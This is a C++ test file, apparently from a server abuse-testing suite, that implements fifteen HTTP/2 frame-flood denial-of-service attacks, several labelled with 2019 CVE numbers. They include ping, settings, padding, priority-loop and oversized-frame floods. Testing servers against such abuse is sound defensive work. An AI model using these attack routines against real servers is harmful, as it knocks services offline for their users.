// Attacks with single frames of HTTP/2, below calls.
#include <string>

#include "tests/abuse/attack.h"
#include "tests/net/http2_bytes.h"

namespace flagfall::abuse {
namespace {

constexpr std::size_t kFramesAtOnce = 128;

// Sends the frames again and again, and reads nothing.
void Flood(RawConnection& connection, const std::string& frame) {
  connection.Send(Preface());
  const std::string frames = Repeated(frame, kFramesAtOnce);
  while (connection.Send(frames)) {
  }
}

// The server has to answer each ping, and the client does not read: the answers pile up.
void PingFlood(RawConnection& connection) { Flood(connection, Frame(kPing, 0, "12345678")); }

// Fewer pings a second than any server minds, on each of many connections.
void PingsBelowTheBudget(RawConnection& connection) {
  const std::string ping = Frame(kPing, 0, "12345678");
  connection.Send(Preface() + Repeated(ping, 1500));
  while (connection.Send(Repeated(ping, 4))) connection.Pause(std::chrono::milliseconds(10));
}

// As the flood of pings, with settings, each of which has to be acknowledged.
void SettingsFlood(RawConnection& connection) { Flood(connection, Frame(kSettings, 0, "")); }

// Settings that have the server compute the windows of all calls and evict its table of header fields anew each time.
void SettingsChurn(RawConnection& connection) {
  connection.Send(Preface());
  for (std::uint32_t stream = 1; stream <= 7; stream += 2) connection.Send(CallHeaders(stream, kHealthWatchPath));
  std::string settings;
  for (const std::uint32_t value : {0U, 65535U, 1U, 1U << 20}) {
    settings += Frame(kSettings, 0, Setting(kInitialWindowSize, value) + Setting(kHeaderTableSize, value));
  }
  while (connection.Send(settings)) connection.Receive();
}

void AcknowledgementsOfNothing(RawConnection& connection) { Flood(connection, Frame(kSettings, 0, "", 1)); }

void PingAnswersToNothing(RawConnection& connection) { Flood(connection, Frame(kPing, 0, "12345678", 1)); }

void GoawayFlood(RawConnection& connection) { Flood(connection, Frame(kGoAway, 0, std::string(8, '\0'))); }

// RFC 9113 has unknown frames ignored.
void UnknownFrameFlood(RawConnection& connection) { Flood(connection, Frame(kUnknownType, 0, "")); }
void LargeUnknownFrames(RawConnection& connection) {
  Flood(connection, Frame(kUnknownType, 0, std::string(kFrameBytes, 'x')));
}

void WindowUpdateFlood(RawConnection& connection) { Flood(connection, WindowUpdate(0, 1)); }

// Streams that depend on each other in changing order, none of which is ever opened.
void PriorityLoop(RawConnection& connection) {
  connection.Send(Preface());
  for (std::uint32_t round = 0;; ++round) {
    std::string frames;
    for (std::uint32_t i = 0; i < kFramesAtOnce; ++i) {
      const std::uint32_t stream = 1 + 2 * ((round + i) % 1000);
      const std::uint32_t parent = 1 + 2 * ((round + i + 1) % 1000);
      frames += Frame(kPriority, stream, BigEndian(parent, 4) + "\x10");
    }
    if (!connection.Send(frames)) return;
  }
}

// DATA without data, of a call that stays open.
void EmptyFramesFlood(RawConnection& connection) {
  connection.Send(Preface() + CallHeaders(1, kHealthCheckPath));
  const std::string frames = Repeated(Frame(kData, 1, ""), kFramesAtOnce);
  while (connection.Send(frames)) connection.Receive();
}

// The same with padding, which fills the windows of flow control and carries nothing.
void PaddingFlood(RawConnection& connection) {
  const std::string padding = Frame(kData, 1, "\xff" + std::string(255, '\0'), kPadded);
  connection.Send(Preface() + CallHeaders(1, kHealthCheckPath));
  while (connection.AwaitWindow(256)) {
    connection.SpendWindow(256);
    connection.Send(padding);
  }
}

// A frame that claims to be of 16 MiB, and is sent.
void FrameOfSixteenMib(RawConnection& connection) {
  connection.Send(Preface() + CallHeaders(1, kHealthCheckPath));
  connection.Send(BigEndian(0xffffff, 3) + BigEndian(kData, 1) + BigEndian(0, 1) + BigEndian(1, 4));
  const std::string zeros(kFrameBytes, '\0');
  while (connection.Send(zeros)) {
  }
}

// Only servers may promise calls.
void PushPromisesOfClient(RawConnection& connection) {
  Flood(connection, Frame(kPushPromise, 1, BigEndian(2, 4) + CallFields(kHealthCheckPath), kEndHeaders));
}

}  // namespace

std::vector<Attack> FrameAttacks() {
  using Demand = Attack::Demand;
  return {
      {"PingFlood", "CVE-2019-9512", PingFlood},
      {"PingsBelowTheBudget", "CVE-2019-9512", PingsBelowTheBudget, Demand::kNone},
      {"PingAnswersToNothing", "", PingAnswersToNothing},
      {"SettingsFlood", "CVE-2019-9515", SettingsFlood},
      {"SettingsChurn", "CVE-2019-9515", SettingsChurn},
      {"AcknowledgementsOfNothing", "CVE-2019-9515", AcknowledgementsOfNothing},
      {"GoawayFlood", "", GoawayFlood},
      {"UnknownFrameFlood", "", UnknownFrameFlood},
      {"LargeUnknownFrames", "", LargeUnknownFrames},
      {"WindowUpdateFlood", "", WindowUpdateFlood},
      {"PriorityLoop", "CVE-2019-9513", PriorityLoop},
      {"EmptyFramesFlood", "CVE-2019-9518", EmptyFramesFlood},
      {"PaddingFlood", "CVE-2019-9518", PaddingFlood},
      {"FrameOfSixteenMib", "", FrameOfSixteenMib, Demand::kEnd},
      {"PushPromisesOfClient", "", PushPromisesOfClient},
  };
}

}  // namespace flagfall::abuse
